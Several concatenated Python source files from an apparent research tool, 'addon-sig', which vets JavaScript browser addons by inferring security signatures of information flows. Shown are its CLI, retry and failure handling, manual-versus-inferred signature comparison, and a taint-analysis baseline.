        """Has the wall-clock deadline passed? (For call sites outside
        the fixpoint loop, e.g. between timing runs.)"""
        return self.deadline is not None and time.monotonic() > self.deadline

    def describe(self, kind: FailureKind) -> str:
        limits = self.budget
        if kind is FailureKind.BUDGET_STEPS:
            return f"no fixpoint after {limits.max_steps} steps"
        if kind is FailureKind.BUDGET_STATES:
            return f"more than {limits.max_states} abstract states"
        if kind is FailureKind.BUDGET_TIME:
            return f"exceeded {limits.max_seconds}s wall-clock deadline"
        return str(kind)  # pragma: no cover - only budget kinds expected


# ----------------------------------------------------------------------
# Retry policy


@dataclass(frozen=True)
class RetryPolicy:
    """Capped exponential backoff with jitter — the one retry shape
    every layer that survives worker death uses (the batch engine's
    pool rebuilds, the vetting service's crashed-job requeues).

    ``max_attempts`` counts *executions*: 3 means one first try plus at
    most two retries; whatever still fails after that is failed (or
    quarantined as poison) with a typed :class:`FailureKind` rather
    than retried forever. Delays grow ``base_delay * 2**(attempt-1)``
    up to ``max_delay``; ``jitter`` randomizes the top fraction of each
    delay so a fleet of retriers does not thundering-herd a shared
    resource. Pass a seeded ``random.Random`` for deterministic tests.
    """

    max_attempts: int = 3
    base_delay: float = 0.05
    max_delay: float = 2.0
    jitter: float = 0.5

    def allows(self, attempts: int) -> bool:
        """May a job that has already run ``attempts`` times run again?"""
        return attempts < self.max_attempts

    def delay(self, attempt: int, rng=None) -> float:
        """The backoff before retry number ``attempt`` (1-based)."""
        raw = min(self.max_delay, self.base_delay * (2 ** max(0, attempt - 1)))
        if self.jitter <= 0:
            return raw
        if rng is None:
            import random as rng  # module-level uniform() is fine here
        return raw * (1 - self.jitter) + raw * self.jitter * rng.random()


# ----------------------------------------------------------------------
# Exception classification


def classify_exception(exc: BaseException) -> FailureKind:
    """Map a raised exception to its taxonomy kind.

    Budget exceptions carry their kind directly (``exc.kind``); frontend
    errors map by type; pool breakage maps to ``worker-crash``; anything
    else is ``internal``.
    """
    kind = getattr(exc, "kind", None)
    if isinstance(kind, FailureKind):
        return kind

    from concurrent.futures.process import BrokenProcessPool

    from repro.js.errors import FrontendError, UnsupportedSyntaxError

    if isinstance(exc, UnsupportedSyntaxError):
        return FailureKind.UNSUPPORTED_SYNTAX
    if isinstance(exc, FrontendError):
        return FailureKind.PARSE_ERROR
    if isinstance(exc, BrokenProcessPool):
        return FailureKind.WORKER_CRASH
    return FailureKind.INTERNAL
