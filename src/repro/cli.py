"""Command-line interface: ``addon-sig``.

Subcommands:

- ``vet PATH`` — vet a single addon file *or* a WebExtension directory
  (``manifest.json`` + background/content scripts): extension
  directories get the multi-file lowering, the ``chrome.*`` model, and
  the cross-component message-flow analysis of :mod:`repro.webext`;
- ``analyze FILE.js`` — infer and print the security signature of an
  addon (optionally compare against a manual signature file and/or dump
  the annotated PDG as Graphviz dot);
- ``table1`` / ``table2`` / ``figures`` — regenerate the paper's tables
  and figures on the benchmark corpus (``table2`` vets the corpus in
  parallel through the batch engine; ``--workers``/``--cache`` tune it);
- ``bench`` — benchmark the corpus and write ``BENCH_corpus.json``
  (per-addon P1/P2/P3 medians plus hot-path counters, and the relevance
  prefilter's hit rate on the examples corpus);
- ``scaling`` — sweep synthetic addons (flat handler farms and nested-
  loop callback chains) up to ~12k AST nodes and write
  ``BENCH_scaling.json``; with ``--baseline`` it gates on a >20% P1
  regression at the largest size (machine-speed calibrated);
- ``diff OLD.js NEW.js`` — differential vetting of an addon update:
  fast-lane certificate when the change surface is provably signature-
  preserving, otherwise a full re-analysis with the signature diff
  classified under the lattice order (exit 1 on ``re-review``);
- ``lint PATH...`` — the pre-analysis lint & triage pass: run the rule
  engine over addon files/directories, as human text or stable JSON;
- ``selfcheck`` — the lattice-law sanitizer over every abstract domain;
- ``serve`` — the long-running crash-safe vetting daemon (durable job
  queue + supervised worker pool; JSON-RPC on stdin or localhost HTTP);
- ``service-bench`` — the service-level chaos harness: a concurrent
  workload against two daemons (fault-free control vs. worker kills and
  a daemon SIGKILL+restart), asserting zero lost jobs, no duplicate
  side effects, and byte-identical verdicts; writes
  ``BENCH_service.json`` (exit 1 on any violated invariant).
"""

from __future__ import annotations

import argparse
import sys


def _resolve_spec(name: str, source: str):
    """``--spec`` resolution: ``auto`` picks the WebExt spec for bundle
    text and the Mozilla spec for plain sources; ``None`` defers to the
    pipeline default (same outcome, but keeps api.vet's own default
    logic authoritative)."""
    if name == "mozilla":
        from repro.browser import mozilla_spec

        return mozilla_spec()
    if name == "webext":
        from repro.browser.chrome import webext_spec

        return webext_spec()
    return None


def _load_source(path: str) -> str:
    """Load an addon file or bundle directory, turning a manifest
    refusal (missing/empty content_scripts references, malformed
    manifest.json) into a clean CLI error instead of a traceback."""
    from repro.webext.loader import load_source
    from repro.webext.manifest import ManifestError

    try:
        return load_source(path)
    except ManifestError as error:
        raise SystemExit(f"addon-sig: refused: {error}") from error


def _cmd_vet(arguments: argparse.Namespace) -> int:
    from repro.api import vet
    from repro.faults import Budget
    from repro.signatures import parse_signature

    source = _load_source(arguments.path)

    manual = None
    if arguments.manual:
        with open(arguments.manual, encoding="utf-8") as handle:
            manual = parse_signature(handle.read())

    budget = None
    if arguments.timeout is not None or arguments.max_steps is not None:
        budget = Budget(
            max_steps=(
                arguments.max_steps if arguments.max_steps is not None
                else 400_000
            ),
            max_seconds=arguments.timeout,
        )
    report = vet(
        source, manual=manual, spec=_resolve_spec(arguments.spec, source),
        k=arguments.k, budget=budget, recover=arguments.recover,
        prefilter=arguments.prefilter, preanalysis=arguments.preanalysis,
    )
    print(report.render())

    if arguments.explain:
        if report.preanalysis is not None:
            print()
            print(report.preanalysis.render())
        if report.prefilter_decision is not None:
            print()
            print(report.prefilter_decision.render())
        if report.pdg is not None:
            from repro.signatures import explain_all

            for witness in explain_all(report.pdg, report.detail):
                print()
                print(witness.render())
    return 0


def _cmd_analyze(arguments: argparse.Namespace) -> int:
    from repro.api import vet
    from repro.faults import Budget
    from repro.signatures import parse_signature

    source = _load_source(arguments.file)

    manual = None
    if arguments.manual:
        with open(arguments.manual, encoding="utf-8") as handle:
            manual = parse_signature(handle.read())

    budget = None
    if arguments.timeout is not None or arguments.max_steps is not None:
        budget = Budget(
            max_steps=(
                arguments.max_steps if arguments.max_steps is not None
                else 400_000
            ),
            max_seconds=arguments.timeout,
        )
    report = vet(
        source, manual=manual, k=arguments.k,
        budget=budget, recover=arguments.recover,
    )
    print(report.render())

    if arguments.explain:
        from repro.signatures import explain_all

        for witness in explain_all(report.pdg, report.detail):
            print()
            print(witness.render())

    if arguments.slice is not None:
        from repro.pdg.slicing import backward_slice_of_line

        lines = backward_slice_of_line(report.pdg, arguments.slice)
        print()
        print(f"backward slice of line {arguments.slice}: lines {lines}")

    if arguments.dot:
        with open(arguments.dot, "w", encoding="utf-8") as handle:
            handle.write(report.pdg.to_dot())
        print(f"annotated PDG written to {arguments.dot}")
    return 0


def _cmd_diff(arguments: argparse.Namespace) -> int:
    import json

    from repro.api import diff_vet
    from repro.faults import Budget

    old_source = _load_source(arguments.old)
    new_source = _load_source(arguments.new)

    budget = None
    if arguments.timeout is not None or arguments.max_steps is not None:
        budget = Budget(
            max_steps=(
                arguments.max_steps if arguments.max_steps is not None
                else 400_000
            ),
            max_seconds=arguments.timeout,
        )
    report = diff_vet(
        old_source, new_source, k=arguments.k,
        budget=budget, recover=arguments.recover,
    )
    if arguments.format == "json":
        payload = {
            "old": arguments.old,
            "new": arguments.new,
            "verdict": report.verdict,
            "fast_lane": report.fast_lane,
            "certificate": report.certificate.to_json(),
            "old_signature": report.old_signature.render(),
            "new_signature": report.new_signature.render(),
            "diff": report.diff.to_json(),
            "witnesses": [witness.render() for witness in report.witnesses],
        }
        print(json.dumps(payload, indent=2, sort_keys=True))
    else:
        print(report.render())
    return 1 if report.verdict == "re-review" else 0


def _cmd_table1(arguments: argparse.Namespace) -> int:
    from repro.evaluation import compute_table1, render_table1

    print(render_table1(compute_table1()))
    return 0


def _cmd_table2(arguments: argparse.Namespace) -> int:
    from repro.evaluation import compute_table2, render_table2

    print(render_table2(compute_table2(
        runs=arguments.runs, k=arguments.k,
        workers=arguments.workers, use_cache=arguments.cache,
        timeout=arguments.timeout,
    )))
    return 0


def _cmd_bench(arguments: argparse.Namespace) -> int:
    from repro.evaluation import render_bench, run_bench

    report = run_bench(
        runs=arguments.runs, k=arguments.k, workers=arguments.workers,
        output=arguments.output, use_cache=arguments.cache,
        timeout=arguments.timeout,
    )
    print(render_bench(report))
    print(f"\nwritten to {arguments.output}")
    return 0


def _cmd_fleet(arguments: argparse.Namespace) -> int:
    from repro.corpusgen.fleet import render_fleet, run_fleet

    section = run_fleet(
        count=arguments.count,
        seed=arguments.seed,
        workers=arguments.workers,
        update_count=arguments.updates,
        bundle_fraction=arguments.bundle_fraction,
        service=arguments.service,
        output=arguments.output,
    )
    print(render_fleet(section))
    if arguments.output is not None:
        print(f"\nfleet section merged into {arguments.output}")
    if section["verdict_mismatches"]:
        print(
            f"FLEET UNSOUND: {section['verdict_mismatches']} verdict "
            "mismatches (see the fleet section for details)",
            file=sys.stderr,
        )
        return 1
    return 0


def _cmd_scaling(arguments: argparse.Namespace) -> int:
    import json
    from pathlib import Path

    from repro.evaluation import check_regression, render_scaling, run_scaling

    report = run_scaling(
        runs=arguments.runs, k=arguments.k, output=arguments.output,
    )
    print(render_scaling(report))
    print(f"\nwritten to {arguments.output}")
    if arguments.baseline is not None:
        baseline = json.loads(
            Path(arguments.baseline).read_text(encoding="utf-8")
        )
        failures = check_regression(
            report, baseline, tolerance=arguments.tolerance
        )
        if failures:
            for failure in failures:
                print(f"REGRESSION: {failure}", file=sys.stderr)
            return 1
        print(f"regression gate passed (vs {arguments.baseline})")
    return 0


def _cmd_lint(arguments: argparse.Namespace) -> int:
    from repro.lint import lint_paths, rule_table

    if arguments.rules:
        width = max(len(name) for _, name, _, _ in rule_table())
        for rule_id, name, severity, description in rule_table():
            print(f"{rule_id}  {name:<{width}}  {severity:<7}  {description}")
        return 0
    if not arguments.paths:
        print("error: no paths given (or use --rules)", file=sys.stderr)
        return 2
    report = lint_paths(arguments.paths)
    if arguments.format == "json":
        print(report.render_json())
    else:
        print(report.render())
    if arguments.errors_fail and report.has_errors:
        return 1
    return 0


def _cmd_selfcheck(arguments: argparse.Namespace) -> int:
    from repro.lint import render_selfcheck, run_selfcheck

    results = run_selfcheck()
    print(render_selfcheck(results))
    return 0 if all(result.ok for result in results) else 1


def _cmd_serve(arguments: argparse.Namespace) -> int:
    from repro.service import daemon

    argv = ["--dir", arguments.dir, "--workers", str(arguments.workers),
            "--max-attempts", str(arguments.max_attempts)]
    if arguments.timeout is not None:
        argv += ["--timeout", str(arguments.timeout)]
    if arguments.http is not None:
        argv += ["--http", str(arguments.http)]
    if arguments.stdio:
        argv.append("--stdio")
    if arguments.no_fsync:
        argv.append("--no-fsync")
    if arguments.max_chains is not None:
        argv += ["--max-chains", str(arguments.max_chains)]
    return daemon.main(argv)


def _cmd_service_bench(arguments: argparse.Namespace) -> int:
    from repro.service.loadgen import render_report, run_bench

    report = run_bench(
        arguments.output,
        jobs=arguments.jobs,
        workers=arguments.workers,
        submitters=arguments.submitters,
        worker_kills=arguments.worker_kills,
        daemon_kills=arguments.daemon_kills,
        seed=arguments.seed,
        fsync=not arguments.no_fsync,
        state_dir=arguments.state_dir,
    )
    print(render_report(report))
    print(f"\nwritten to {arguments.output}")
    return 0 if report["checks"]["ok"] else 1


def _cmd_figures(arguments: argparse.Namespace) -> int:
    from repro.evaluation import render_figure2, render_figure4

    print(render_figure2())
    print()
    print(render_figure4())
    return 0


def _cmd_report(arguments: argparse.Namespace) -> int:
    from repro.evaluation import render_report

    print(render_report(runs=arguments.runs))
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="addon-sig",
        description="Security signature inference for JavaScript browser addons",
    )
    subparsers = parser.add_subparsers(dest="command", required=True)

    vet = subparsers.add_parser(
        "vet",
        help="vet an addon file or a WebExtension directory "
             "(manifest.json + component scripts)",
    )
    vet.add_argument(
        "path",
        help="a JavaScript file, or an extension directory containing "
             "manifest.json",
    )
    vet.add_argument(
        "--manual", help="manual signature file to compare against"
    )
    vet.add_argument(
        "--spec", choices=("auto", "mozilla", "webext"), default="auto",
        help="security spec (auto: webext for extension directories, "
             "mozilla for plain files)",
    )
    vet.add_argument("--k", type=int, default=1, help="context sensitivity")
    vet.add_argument(
        "--explain", action="store_true",
        help="print a witness path for every inferred flow "
             "(cross-component steps carry their component tag)",
    )
    vet.add_argument(
        "--recover", action="store_true",
        help="skip unparseable top-level statements and vet the rest "
             "(degraded, ⊤-widened signature)",
    )
    vet.add_argument(
        "--prefilter", action="store_true",
        help="sound relevance prefilter (union surface across all "
             "component files)",
    )
    vet.add_argument(
        "--no-preanalysis", dest="preanalysis", action="store_false",
        help="skip the whole-program pre-analysis (computed-property "
             "resolution, call graph, dead-function pruning); signatures "
             "are bit-identical either way",
    )
    vet.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="cooperative wall-clock budget (degrades, never fails)",
    )
    vet.add_argument(
        "--max-steps", type=int, default=None, metavar="N",
        help="fixpoint step budget (default 400000); blown budgets degrade",
    )
    vet.set_defaults(handler=_cmd_vet)

    analyze = subparsers.add_parser("analyze", help="vet one addon source file")
    analyze.add_argument(
        "file", help="JavaScript addon source (or an extension directory)"
    )
    analyze.add_argument(
        "--manual", help="manual signature file to compare against (pass/fail/leak)"
    )
    analyze.add_argument("--dot", help="write the annotated PDG as Graphviz dot")
    analyze.add_argument("--k", type=int, default=1, help="context sensitivity")
    analyze.add_argument(
        "--explain", action="store_true",
        help="print a witness path for every inferred flow",
    )
    analyze.add_argument(
        "--slice", type=int, metavar="LINE",
        help="print the backward slice of a source line",
    )
    analyze.add_argument(
        "--recover", action="store_true",
        help="skip unparseable top-level statements and vet the rest "
             "(degraded, ⊤-widened signature)",
    )
    analyze.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="cooperative wall-clock budget; a blown budget degrades "
             "to a sound signature instead of failing",
    )
    analyze.add_argument(
        "--max-steps", type=int, default=None, metavar="N",
        help="fixpoint step budget (default 400000); blown budgets degrade",
    )
    analyze.set_defaults(handler=_cmd_analyze)

    diff = subparsers.add_parser(
        "diff",
        help="vet an addon update: signature diff + incremental fast lane "
             "(exit 1 when the update needs re-review)",
    )
    diff.add_argument("old", help="approved previous version (JavaScript)")
    diff.add_argument("new", help="updated version (JavaScript)")
    diff.add_argument("--k", type=int, default=1, help="context sensitivity")
    diff.add_argument(
        "--format", choices=("text", "json"), default="text",
        help="output format",
    )
    diff.add_argument(
        "--recover", action="store_true",
        help="skip unparseable top-level statements (disables the fast "
             "lane; degraded, ⊤-widened signatures)",
    )
    diff.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="cooperative wall-clock budget per analysis (degrades, "
             "never fails)",
    )
    diff.add_argument(
        "--max-steps", type=int, default=None, metavar="N",
        help="fixpoint step budget (default 400000); blown budgets degrade",
    )
    diff.set_defaults(handler=_cmd_diff)

    table1 = subparsers.add_parser("table1", help="regenerate Table 1")
    table1.set_defaults(handler=_cmd_table1)

    table2 = subparsers.add_parser("table2", help="regenerate Table 2")
    table2.add_argument("--runs", type=int, default=11)
    table2.add_argument("--k", type=int, default=1)
    table2.add_argument(
        "--workers", type=int, default=None,
        help="vetting worker processes (default: one per CPU)",
    )
    table2.add_argument(
        "--cache", action="store_true",
        help="reuse the on-disk vetting result cache",
    )
    table2.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="per-run wall-clock budget per addon (degrades, not fails)",
    )
    table2.set_defaults(handler=_cmd_table2)

    bench = subparsers.add_parser(
        "bench", help="benchmark the corpus; write BENCH_corpus.json"
    )
    bench.add_argument(
        "--runs", type=int, default=3,
        help="pipeline runs per addon (first discarded; medians reported)",
    )
    bench.add_argument("--k", type=int, default=1)
    bench.add_argument("--workers", type=int, default=None)
    bench.add_argument("--output", default="BENCH_corpus.json")
    bench.add_argument(
        "--cache", action="store_true",
        help="reuse the on-disk vetting result cache",
    )
    bench.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="per-run wall-clock budget per addon (degrades, not fails)",
    )
    bench.set_defaults(handler=_cmd_bench)

    fleet = subparsers.add_parser(
        "fleet",
        help="store-scale benchmark over a generated verdict-carrying "
             "corpus; merge a fleet section into BENCH_corpus.json "
             "(exit 1 on any verdict mismatch)",
    )
    fleet.add_argument(
        "--count", type=int, default=1000,
        help="generated addons to vet (default 1000)",
    )
    fleet.add_argument(
        "--seed", type=int, default=0,
        help="corpus seed (same seed = bit-identical corpus)",
    )
    fleet.add_argument("--workers", type=int, default=None)
    fleet.add_argument(
        "--updates", type=int, default=None, metavar="PAIRS",
        help="update pairs for the incremental sweep "
             "(default count // 5, at least 10)",
    )
    fleet.add_argument(
        "--bundle-fraction", type=float, default=0.25,
        help="share of multi-file WebExtension bundles in the corpus",
    )
    fleet.add_argument(
        "--service", action="store_true",
        help="also round-trip a sample through the service daemon",
    )
    fleet.add_argument("--output", default="BENCH_corpus.json")
    fleet.set_defaults(handler=_cmd_fleet)

    scaling = subparsers.add_parser(
        "scaling",
        help="synthetic scaling benchmark (flat + chain shapes, up to "
             "~12k AST nodes); write BENCH_scaling.json",
    )
    scaling.add_argument(
        "--runs", type=int, default=3,
        help="pipeline runs per size (first discarded; medians reported)",
    )
    scaling.add_argument("--k", type=int, default=1)
    scaling.add_argument("--output", default="BENCH_scaling.json")
    scaling.add_argument(
        "--baseline", default=None,
        help="BENCH_scaling baseline to gate against (exit 1 on "
             "p1 regression at the largest size beyond --tolerance)",
    )
    scaling.add_argument(
        "--tolerance", type=float, default=0.20,
        help="allowed relative p1 regression at the largest size",
    )
    scaling.set_defaults(handler=_cmd_scaling)

    lint = subparsers.add_parser(
        "lint", help="lint addon sources (pre-analysis triage rules)"
    )
    lint.add_argument(
        "paths", nargs="*",
        help="addon files and/or directories (directories: every *.js)",
    )
    lint.add_argument(
        "--format", choices=("text", "json"), default="text",
        help="output format (json is the stable LINT_findings schema)",
    )
    lint.add_argument(
        "--rules", action="store_true",
        help="list every rule (id, name, severity, description) and exit",
    )
    lint.add_argument(
        "--errors-fail", action="store_true",
        help="exit 1 when any error-severity finding is reported",
    )
    lint.set_defaults(handler=_cmd_lint)

    selfcheck = subparsers.add_parser(
        "selfcheck",
        help="check every abstract domain's lattice laws "
             "(exit 1 on any violation)",
    )
    selfcheck.set_defaults(handler=_cmd_selfcheck)

    serve = subparsers.add_parser(
        "serve",
        help="run the crash-safe vetting daemon (durable queue + "
             "supervised worker pool)",
    )
    serve.add_argument(
        "--dir", required=True,
        help="service state directory (journals, results, version chains)",
    )
    serve.add_argument("--workers", type=int, default=2)
    serve.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="per-job cooperative budget (plus a generous hard backstop)",
    )
    serve.add_argument(
        "--max-attempts", type=int, default=3,
        help="crashes before a job is quarantined as poison",
    )
    serve.add_argument(
        "--http", type=int, default=None, metavar="PORT",
        help="serve HTTP on 127.0.0.1:PORT (0 picks a free port)",
    )
    serve.add_argument(
        "--stdio", action="store_true",
        help="newline-delimited JSON-RPC on stdin/stdout (the default)",
    )
    serve.add_argument(
        "--no-fsync", action="store_true",
        help="skip fsyncs (tests only: loses power-failure durability)",
    )
    serve.add_argument(
        "--max-chains", type=int, default=None,
        help="LRU bound on recorded version chains",
    )
    serve.set_defaults(handler=_cmd_serve)

    service_bench = subparsers.add_parser(
        "service-bench",
        help="chaos-test the daemon end to end; write BENCH_service.json "
             "(exit 1 on lost jobs, duplicate side effects, or verdict "
             "drift vs the fault-free control run)",
    )
    service_bench.add_argument("--jobs", type=int, default=50)
    service_bench.add_argument("--workers", type=int, default=2)
    service_bench.add_argument("--submitters", type=int, default=4)
    service_bench.add_argument("--worker-kills", type=int, default=2)
    service_bench.add_argument("--daemon-kills", type=int, default=1)
    service_bench.add_argument("--seed", type=int, default=0)
    service_bench.add_argument(
        "--no-fsync", action="store_true",
        help="run both daemons without fsync (faster; CI-friendly)",
    )
    service_bench.add_argument(
        "--state-dir", default=None,
        help="keep the two daemon state directories for inspection",
    )
    service_bench.add_argument("--output", default="BENCH_service.json")
    service_bench.set_defaults(handler=_cmd_service_bench)

    figures = subparsers.add_parser("figures", help="regenerate Figures 2 and 4")
    figures.set_defaults(handler=_cmd_figures)

    report = subparsers.add_parser(
        "report", help="full markdown evaluation report (EXPERIMENTS.md data)"
    )
    report.add_argument("--runs", type=int, default=11)
    report.set_defaults(handler=_cmd_report)
    return parser


def main(argv: list[str] | None = None) -> int:
    parser = build_parser()
    arguments = parser.parse_args(argv)
    return arguments.handler(arguments)


if __name__ == "__main__":
    sys.exit(main())
