"""Comparing inferred signatures against manual signatures (Section 6.2).

The paper's methodology: write a manual signature from the developer's
addon summary *before* running the analysis, then classify each addon:

- **pass** — the inferred signature matches the manual one;
- **fail** — the inferred signature has more flows, and inspection shows
  they are false positives (in the paper, both fails are the prefix
  domain failing to keep several network domains apart);
- **leak** — the inferred signature has more flows and they are real
  (undocumented behavior the summary did not admit to).

The fail/leak distinction required manual inspection in the paper; our
benchmark corpus carries the ground truth (which extra entries are real)
as construction-time metadata, so the harness can classify mechanically.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from repro.domains.prefix import Prefix
from repro.signatures.flowtypes import DEFAULT_LATTICE, FlowTypeLattice
from repro.signatures.signature import ApiEntry, Entry, FlowEntry, Signature


class Verdict(enum.Enum):
    """The Table 2 result classes (plus a soundness diagnostic)."""

    PASS = "pass"
    FAIL = "fail"
    LEAK = "leak"
    #: The inferred signature *misses* manual entries — would indicate an
    #: unsound analysis; never expected.
    MISS = "miss"

    def __str__(self) -> str:
        return self.value


@dataclass
class Comparison:
    """Outcome of comparing an inferred signature to the manual one."""

    verdict: Verdict
    #: Inferred entries with no matching manual entry.
    extra: frozenset[Entry] = frozenset()
    #: Manual entries the analysis failed to infer.
    missing: frozenset[Entry] = frozenset()

    def render(self) -> str:
        lines = [f"verdict: {self.verdict}"]
        for entry in sorted(self.extra, key=lambda e: e.render()):
            lines.append(f"  extra:   {entry.render()}")
        for entry in sorted(self.missing, key=lambda e: e.render()):
            lines.append(f"  missing: {entry.render()}")
        return "\n".join(lines)


def compare(
    inferred: Signature,
    manual: Signature,
    real_extras: frozenset[Entry] = frozenset(),
) -> Comparison:
    """Classify an inferred signature against the manual one.

    ``real_extras`` is the ground truth: extra entries known (by
    inspection, or in our corpus by construction) to be real flows.
    """
    extra = frozenset(inferred.entries - manual.entries)
    missing = frozenset(manual.entries - inferred.entries)

    if not extra and not missing:
        verdict = Verdict.PASS
    elif extra and extra <= real_extras:
        verdict = Verdict.LEAK
    elif extra:
        verdict = Verdict.FAIL
    else:
        verdict = Verdict.MISS
    return Comparison(verdict=verdict, extra=extra, missing=missing)


# ----------------------------------------------------------------------
# Subsumption (the signature-lattice order used by salvage mode)


def _domain_covers(general: Prefix | None, specific: Prefix | None) -> bool:
    if general is None or specific is None:
        return general is None and specific is None
    return specific.leq(general)


def entry_covers(
    general: Entry,
    specific: Entry,
    lattice: FlowTypeLattice = DEFAULT_LATTICE,
) -> bool:
    """Does ``general`` claim at least as much as ``specific``?

    A flow entry covers another when it names the same source and sink,
    claims a flow type at least as strong (more alarming), and its
    domain is at or above the other's in the prefix lattice. An API
    entry covers another the same way, minus the flow type. This is the
    per-entry order under which a degraded run's ⊤-widened signature
    over-approximates any complete run's signature.
    """
    if isinstance(general, FlowEntry) and isinstance(specific, FlowEntry):
        return (
            general.source == specific.source
            and general.sink == specific.sink
            and lattice.stronger_or_equal(general.flow_type, specific.flow_type)
            and _domain_covers(general.domain, specific.domain)
        )
    if isinstance(general, ApiEntry) and isinstance(specific, ApiEntry):
        return general.api == specific.api and _domain_covers(
            general.domain, specific.domain
        )
    return False


def subsumes(
    general: Signature,
    specific: Signature,
    lattice: FlowTypeLattice = DEFAULT_LATTICE,
) -> bool:
    """``general`` subsumes ``specific`` when every entry of ``specific``
    is covered by some entry of ``general`` — i.e. ``general`` is a
    sound over-approximation of ``specific``."""
    return all(
        any(entry_covers(g, s, lattice) for g in general.entries)
        for s in specific.entries
    )


# ----------------------------------------------------------------------
# Entry identity and change classification (differential vetting)


def entry_key(entry: Entry) -> tuple:
    """The identity of an entry across versions of an addon.

    Two entries describe *the same claim* — possibly at different
    strengths — when they name the same source and sink (flow entries)
    or the same API (API entries). The flow type and the prefix-domain
    element are the entry's *strength*, compared under the lattice
    order, never under string equality (``a.example.com`` vs
    ``a.example...`` is a widening, not a new flow).
    """
    if isinstance(entry, FlowEntry):
        return ("flow", entry.source, entry.sink)
    return ("api", entry.api)


def classify_entry_change(
    old_entries: frozenset[Entry] | set[Entry],
    new_entry: Entry,
    lattice: FlowTypeLattice = DEFAULT_LATTICE,
) -> str:
    """Classify ``new_entry`` against the same-key entries of the old
    signature: ``unchanged`` / ``narrowed`` / ``widened``.

    ``old_entries`` must all share :func:`entry_key` with ``new_entry``
    (the caller groups by key; an empty group is a *new flow* and never
    reaches this function). Incomparable changes — same source/sink but
    a domain neither above nor below the old one (e.g. ``a.com`` →
    ``b.com``) — classify as ``widened``: the new claim is not covered
    by the approved one, so a vetter must re-review it.
    """
    if not old_entries:
        raise ValueError("classify_entry_change: empty old-entry group")
    if new_entry in old_entries:
        return "unchanged"
    if any(entry_covers(old, new_entry, lattice) for old in old_entries):
        return "narrowed"
    return "widened"
