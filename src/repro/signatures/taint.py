"""A VEX-style explicit-taint baseline.

The paper's related work discusses VEX (Bandhakavi et al., USENIX
Security 2010): a static taint analysis for Firefox addons that tracks
*explicit* (data) flows only. This module implements that baseline on
top of our PDG so the two approaches can be compared head to head:

- :func:`infer_taint_signature` runs the same source/sink matching but
  propagates only along data edges (``datastrong``/``dataweak``), like a
  classic taint tracker;
- everything reachable purely implicitly (conditionals, exceptions —
  the paper's type3..type8 flows) is invisible to it.

The ``benchmarks/test_baseline_taint.py`` comparison reproduces the
paper's implicit argument for full dependence tracking: on our corpus
the taint baseline misses every implicit leak the signature analysis
reports (HyperTranslate's key flow, GoogleTransliterate's url leak, and
covert channels generally).
"""

from __future__ import annotations

from repro.analysis.interpreter import AnalysisResult
from repro.pdg.annotations import Annotation
from repro.pdg.graph import PDG
from repro.signatures.flowtypes import DEFAULT_LATTICE, FlowType
from repro.signatures.inference import InferenceDetail, flow_types_from
from repro.signatures.signature import ApiEntry, Entry, FlowEntry, Signature
from repro.signatures.spec import SecuritySpec

#: The only annotations a taint tracker follows.
_TAINT_EDGES = frozenset({Annotation.DATA_STRONG, Annotation.DATA_WEAK})


def _data_only_pdg(pdg: PDG) -> PDG:
    """A view of the PDG with every control edge removed."""
    restricted = PDG(program=pdg.program, cyclic=set(pdg.cyclic))
    for (source, target), annotations in pdg.edges.items():
        kept = annotations & _TAINT_EDGES
        if kept:
            restricted.edges[(source, target)] = set(kept)
    return restricted


def infer_taint_signature(
    result: AnalysisResult,
    pdg: PDG,
    spec: SecuritySpec,
) -> InferenceDetail:
    """The explicit-only baseline: identical interface to
    :func:`repro.signatures.inference.infer_signature`, but flows exist
    only along data edges, so every reported flow is type1 or type2."""
    data_pdg = _data_only_pdg(pdg)
    entries: dict[Entry, set[int]] = {}
    source_statements: dict[str, set[int]] = {}

    network_sinks = [
        (sink, sink.matching_statements(result)) for sink in spec.sinks
    ]

    sinks_with_flows: set[int] = set()
    grouped: dict[tuple, tuple[set, set]] = {}
    for source in spec.sources:
        sids = source.matching_statements(result)
        source_statements.setdefault(source.name, set()).update(sids)
        if not sids:
            continue
        flow = flow_types_from(data_pdg, sids, DEFAULT_LATTICE)
        for sink, matches in network_sinks:
            for sink_sid, domain in matches.items():
                if sink_sid in sids:
                    continue
                types = flow.get(sink_sid)
                if not types:
                    continue
                sinks_with_flows.add(sink_sid)
                bucket = grouped.setdefault(
                    (source.name, sink.name, domain), (set(), set())
                )
                bucket[0].update(types)
                bucket[1].add(sink_sid)
    for (source_name, sink_name, domain), (types, hit_sids) in grouped.items():
        for flow_type in DEFAULT_LATTICE.max(types):
            assert flow_type in (FlowType.TYPE1, FlowType.TYPE2)
            entry = FlowEntry(source_name, flow_type, sink_name, domain)
            entries.setdefault(entry, set()).update(hit_sids)

    flow_covered = {
        (entry.sink, entry.domain)
        for entry in entries
        if isinstance(entry, FlowEntry)
    }
    for sink, matches in network_sinks:
        for sink_sid, domain in matches.items():
            if sink_sid in sinks_with_flows:
                continue
            if (sink.name, domain) in flow_covered:
                continue
            entry = ApiEntry(sink.name, domain)
            entries.setdefault(entry, set()).add(sink_sid)

    for api in spec.apis:
        for sid in api.matching_statements(result):
            entries.setdefault(ApiEntry(api.name), set()).add(sid)

    return InferenceDetail(
        signature=Signature(entries=frozenset(entries)),
        provenance=entries,
        source_statements=source_statements,
    )


def implicit_only_flows(
    full: Signature, taint: Signature
) -> frozenset[FlowEntry]:
    """The flows the signature analysis reports that the taint baseline
    misses — by construction, exactly the implicit ones."""
    return frozenset(full.flows - taint.flows)
