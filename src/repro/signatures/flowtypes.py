"""The flow-type lattice of Figure 4 and its operations.

Eight flow types ordered by perceived strength; each is keyed to one PDG
annotation, and a flow has type ``t`` when there is a source-to-sink path
using only edges whose annotation belongs to some type ≥ ``t``:

====== ================== =====
type   annotation         rank
====== ================== =====
type1  datastrong         0
type2  dataweak           1
type3  local^amp          2
type4  local              3
type5  nonlocexp^amp      3
type6  nonlocexp          4
type7  nonlocimp^amp      4
type8  nonlocimp          5
====== ================== =====

Types sharing a rank (type4/type5 and type6/type7) are incomparable;
every type at a smaller rank is stronger than every type at a larger
rank. This reproduces the paper's examples: ``extend(type4,
